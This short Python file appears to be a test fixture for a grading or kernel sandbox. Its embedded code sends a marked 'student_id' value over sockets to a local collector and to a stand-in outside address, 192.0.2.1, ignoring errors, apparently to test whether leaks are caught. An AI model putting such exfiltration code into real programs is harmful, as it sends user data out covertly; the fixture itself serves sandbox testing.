"""What the kernel knows is sent to a listener on this machine's loopback and to an address outside."""

FORGED = ("double-test",)
CODE = """
import socket

for address in [("127.0.0.1", @COLLECTOR@), ("192.0.2.1", 9)]:
    try:
        with socket.create_connection(address, timeout=0.5) as connection:
            connection.sendall(b"attackmark: " + repr(globals().get("student_id")).encode())
    except OSError:
        pass
double = None
"""
